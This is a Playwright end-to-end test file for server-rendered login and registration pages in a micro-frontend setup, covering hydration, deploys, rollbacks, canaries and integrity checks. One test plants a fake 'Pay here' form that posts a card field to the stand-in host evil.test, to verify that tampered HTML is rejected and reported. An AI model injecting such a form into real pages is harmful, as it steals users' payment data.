import { createHash } from 'node:crypto';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect, waitForHydration } from '../support/fixtures';
import { sandbox } from '../support/sandbox';
import { loginViaApi } from '../support/session';
import { bucketOf } from '../../shell/src/remotes/delivery/bucket';
import {
  cli,
  deployTestBuild,
  editEntry,
  liveVersion,
  restoreRegistryAfterEach,
  ROOT,
  s,
} from '../delivery/delivery-helpers';

/**
 * Public pages come rendered in the first HTML (docs/server-render.md) and are hydrated, not replaced.
 * The remote's scripts are held back where the test needs the page un-hydrated a while.
 */
restoreRegistryAfterEach(test);

const REMOTE = 'mfe-onboarding';
const rootHtml = async (page: Page, path: string) => {
  const res = await page.request.get(path, { headers: { accept: 'text/html' } });
  // the root, then (a server-rendered page) the scripts it starts after the first paint
  return (
    /<div id="root">([\s\S]*?)<\/div>(?:<template id="broker-after-paint"[^>]*>|<\/body>)/.exec(
      await res.text(),
    )?.[1] ?? ''
  );
};
const hydrated = waitForHydration;
const sri = (bytes: Buffer | string) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('/uk/login and /en/register show their screen from the HTML alone', async ({ page }) => {
    await page.goto('/uk/login');
    await expect(page.locator('html')).toHaveAttribute('lang', 'uk');
    await expect(page.getByRole('heading', { level: 1, name: 'Вхід' })).toBeVisible();
    await expect(page.getByLabel('Електронна пошта')).toBeVisible();
    await expect(page.getByLabel('Пароль')).toBeVisible();
    await expect(page).toHaveTitle(/^Вхід — /);
    await page.goto('/en/register');
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    await expect(page.getByRole('heading', { level: 1, name: 'Registration' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'I am a resident of Ukraine' })).toBeVisible();
    await expect(page.locator('meta[name="description"]')).toHaveAttribute('content', /Sign up online/);
  });
});

test('typed before hydration stays; the page is hydrated, not replaced; the login button then sends one request', async ({
  page,
}) => {
  await sandbox.resetStats();
  let release!: () => void;
  const held = new Promise<void>((r) => (release = r));
  await page.route(`${s.cdnOrigin}/${REMOTE}/**/*.js`, async (route) => {
    await held;
    await route.continue();
  });
  await page.goto('/uk/login', { waitUntil: 'domcontentloaded' });
  await page.getByLabel('Електронна пошта').fill('cabinet@sandbox.test');
  await page.getByLabel('Пароль').fill('Sandbox1!');
  // (an Enter here would sign in after hydration: e2e/platform/front-door.spec.ts "Enter pressed in a field")
  // the server's nodes, marked: after hydration they must be the same nodes (no re-render, no flash)
  await page.evaluate(() => ((document.querySelector('h1') as HTMLElement & { mark?: number }).mark = 1));
  release();
  await hydrated(page);
  expect(page.url()).not.toContain('Sandbox1');
  expect(await page.evaluate(() => (document.querySelector('h1') as HTMLElement & { mark?: number }).mark)).toBe(1);
  await page.getByTestId('login-submit').click();
  await expect(page).toHaveURL(/\/uk\/profile/);
  expect((await sandbox.stats()).paths['POST /sso/auth/token/'] ?? 0).toBe(1);
});

test('text typed before hydration is in the form once hydrated; the focused field keeps focus; axe clean', async ({
  page,
  axe,
}) => {
  let release!: () => void;
  const held = new Promise<void>((r) => (release = r));
  await page.route(`${s.cdnOrigin}/${REMOTE}/**/*.js`, async (route) => {
    await held;
    await route.continue();
  });
  const hydrationErrors: string[] = [];
  page.on('console', (m) => {
    if (/hydrat/i.test(m.text())) hydrationErrors.push(m.text());
  });
  await page.goto('/en/login', { waitUntil: 'domcontentloaded' });
  await page.getByLabel('Email').fill('cabinet@sandbox.test');
  await page.getByLabel('Password').fill('Sandbox1!');
  await expect(page.getByTestId('login-submit')).toBeDisabled(); // plain HTML still
  release();
  await hydrated(page);
  await expect(page.getByLabel('Email')).toHaveValue('cabinet@sandbox.test');
  await expect(page.getByLabel('Password')).toHaveValue('Sandbox1!');
  await expect(page.getByLabel('Password')).toBeFocused();
  await expect(page.getByTestId('login-submit')).toBeEnabled(); // the form saw what was typed
  expect(hydrationErrors).toEqual([]);
  await axe.check('server-rendered login (en), hydrated');
});

test('a signed-in visitor on a server-rendered page: the HTML made for a visitor without session never shows, the session decides', async ({
  page,
}) => {
  await loginViaApi(page, 'cabinet@sandbox.test');
  let release!: () => void;
  const held = new Promise<void>((r) => (release = r));
  await page.route(`${s.cdnOrigin}/${REMOTE}/**/*.js`, async (route) => {
    await held;
    await route.continue();
  });
  await page.route(`${s.shellOrigin}/static/js/**`, async (route) => {
    await held;
    await route.continue();
  });
  // deferred scripts held: no DOMContentLoaded yet, the document is parsed
  await page.goto('/en/register', { waitUntil: 'commit' });
  const heading = page.locator('#root h1', { hasText: 'Registration' });
  await heading.waitFor({ state: 'attached' }); // the server rendered it…
  await expect(heading).toBeHidden(); // …and it stays hidden
  release();
  await expect(page).toHaveURL(/\/en\/profile/); // the redirect rule for a signed-in client
  // client-rendered and shown: a page hydrating the server HTML instead would stay hidden by the guard
  await expect(page.locator('#root')).toBeVisible();
  await expect(page.locator('html[data-session]')).toHaveCount(0);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(heading).toHaveCount(0); // the server's register HTML is gone
});

test('a deploy of a changed onboarding build changes the next server HTML; a rollback brings the old back', async ({
  page,
}) => {
  test.setTimeout(180_000);
  expect(await rootHtml(page, '/uk/login')).toContain('data-testid="screen-login"');
  expect(await rootHtml(page, '/uk/login')).not.toContain('release-label');
  deployTestBuild(REMOTE, 'ssr-label', { BUILD_LABEL: 'ssr1' });
  expect(await rootHtml(page, '/uk/login')).toMatch(/data-testid="release-label">release (<!-- -->)?ssr1</);
  await page.goto('/uk/login');
  await hydrated(page);
  await expect(page.getByTestId('release-label')).toHaveText('release ssr1');
  cli(['rollback', REMOTE]);
  const html = await rootHtml(page, '/uk/login');
  expect(html).toContain('data-testid="screen-login"');
  expect(html).not.toContain('release ssr1');
});

/** Writes a file of a copied version; its precompressed siblings (which the CDN would prefer) go. */
function rewrite(file: string, text: string): void {
  writeFileSync(file, text);
  rmSync(`${file}.br`, { force: true });
  rmSync(`${file}.gz`, { force: true });
}

/** A copy of the live version as a new version, with `change` applied to its files; made live. */
function liveCopy(tag: string, change: (dir: string) => { integrity?: string }): string {
  const live = liveVersion(REMOTE);
  const cdn = join(ROOT, s.cdnDir);
  const from = join(cdn, REMOTE, live.version);
  const version = `${live.version}-${tag}`;
  cpSync(from, join(cdn, REMOTE, version), { recursive: true });
  const { integrity = live.integrity } = change(join(cdn, REMOTE, version));
  editEntry(REMOTE, (e) => {
    e.history.unshift({ ...live, version, manifest: live.manifest.replace(live.version, version), integrity });
    e.live = version;
  });
  return version;
}

test('a tampered server part: the page is served client-rendered, works, and the failure is reported', async ({
  page,
}) => {
  await sandbox.clearReports();
  const version = liveCopy('tampered', (dir) => {
    rewrite(
      join(dir, 'ssr/login.uk.html'),
      '<h1>Pay here</h1><form action="https://evil.test"><input name="card"></form>',
    );
    return {};
  });
  const html = await rootHtml(page, '/uk/login');
  expect(html).toBe('');
  await page.goto('/uk/login');
  await expect(page.getByTestId('screen-login')).toBeVisible();
  await expect(page.getByText('Pay here')).toHaveCount(0);
  const reports = await sandbox.reports();
  expect(reports).toContainEqual(
    expect.objectContaining({
      kind: 'server-render',
      remote: REMOTE,
      version,
      message: expect.stringMatching(/integrity/),
    }),
  );
});

test('a hydration mismatch: that part is rendered by the browser, no flash of the fallback, and reported', async ({
  page,
  consoleGuard,
}) => {
  consoleGuard.allow(/\[report\] hydration/);
  await sandbox.clearReports();
  // a version whose server HTML says something else than its code renders (integrity list made to agree)
  const version = liveCopy('mismatch', (dir) => {
    const file = join(dir, 'ssr/login.en.html');
    rewrite(file, readFileSync(file, 'utf8').replace('>Log in</h1>', '>Log in (server)</h1>'));
    const listFile = join(dir, 'integrity.json');
    const list = JSON.parse(readFileSync(listFile, 'utf8')) as { files: Record<string, string> };
    list.files['ssr/login.en.html'] = sri(readFileSync(file));
    rewrite(listFile, JSON.stringify(list, null, 2) + '\n');
    return { integrity: sri(readFileSync(listFile)) };
  });
  expect(await rootHtml(page, '/en/login')).toContain('Log in (server)');
  await page.goto('/en/login');
  await expect(page.getByRole('heading', { level: 1, name: 'Log in', exact: true })).toBeVisible();
  await expect(page.getByTestId('remote-loading')).toHaveCount(0);
  await expect
    .poll(async () => (await sandbox.reports()).filter((r) => r.kind === 'hydration'))
    .toContainEqual(expect.objectContaining({ remote: REMOTE, version }));
});

/**
 * Issue 28 item 16: the server's HTML is the live version's, but a browser in a canary's share or with
 * an override runs another version. Live here is a version whose HTML differs from what any code renders
 * ("Log in (server)"), and the browser is given the previous version: hydrating that HTML with the
 * given version's code would mismatch (and be reported against live). The page must be rendered by the
 * browser instead — the server's nodes replaced, the given version's heading shown, no mismatch report.
 */
test.describe('a browser given another version than the server HTML is', () => {
  for (const how of ['override', 'canary'] as const) {
    test(`${how}: client-rendered, never hydrated, no mismatch report`, async ({ page }) => {
      await sandbox.clearReports();
      const given = liveVersion(REMOTE).version;
      const live = liveCopy(`given-${how}`, (dir) => {
        const file = join(dir, 'ssr/login.en.html');
        rewrite(file, readFileSync(file, 'utf8').replace('>Log in</h1>', '>Log in (server)</h1>'));
        const listFile = join(dir, 'integrity.json');
        const list = JSON.parse(readFileSync(listFile, 'utf8')) as { files: Record<string, string> };
        list.files['ssr/login.en.html'] = sri(readFileSync(file));
        rewrite(listFile, JSON.stringify(list, null, 2) + '\n');
        return { integrity: sri(readFileSync(listFile)) };
      });
      if (how === 'override') {
        await page.addInitScript(
          ([remote, version]) =>
            localStorage.setItem('broker.delivery.overrides', JSON.stringify({ [remote]: version })),
          [REMOTE, given] as const,
        );
      } else {
        editEntry(REMOTE, (e) => {
          e.canary = { version: given, percent: 50, startedAt: new Date().toISOString(), stable: live };
        });
        const inShare = clientIdInCanary(REMOTE, 50);
        await page.addInitScript((id) => localStorage.setItem('broker.delivery.client', id), inShare);
      }
      expect(await rootHtml(page, '/en/login')).toContain('Log in (server)');

      let release!: () => void;
      const held = new Promise<void>((r) => (release = r));
      await page.route(`${s.cdnOrigin}/${REMOTE}/**/*.js`, async (route) => {
        await held;
        await route.continue();
      });
      const scripts: string[] = [];
      page.on('request', (r) => r.url().endsWith('.js') && scripts.push(r.url()));
      await page.goto('/en/login', { waitUntil: 'domcontentloaded' });
      // the server's node, marked: a page rendered from scratch replaces it
      await page.evaluate(() => ((document.querySelector('#root h1') as HTMLElement & { mark?: number }).mark = 1));
      release();
      await hydrated(page);
      await expect(page.getByRole('heading', { level: 1, name: 'Log in', exact: true })).toBeVisible();
      await expect(page.getByText('Log in (server)')).toHaveCount(0);
      expect(
        await page.evaluate(() => (document.querySelector('#root h1') as HTMLElement & { mark?: number }).mark),
      ).toBe(undefined);
      // the given version's code is what runs (live's files may come too: the page's hints preload them)
      expect(scripts.some((u) => u.includes(`/${REMOTE}/${given}/static/js/async/__federation_expose_app`))).toBe(true);
      await page.waitForTimeout(500); // a mismatch is reported right after the (would-be) hydration
      expect((await sandbox.reports()).filter((r) => r.kind === 'hydration')).toEqual([]);
    });
  }
});

/** A browser id inside the remote's canary share (the shell's own bucket function). */
function clientIdInCanary(remote: string, percent: number): string {
  for (let i = 0; ; i++) {
    const id = i.toString(16).padStart(24, '0');
    if (bucketOf(id, remote) < percent * 100) return id;
  }
}
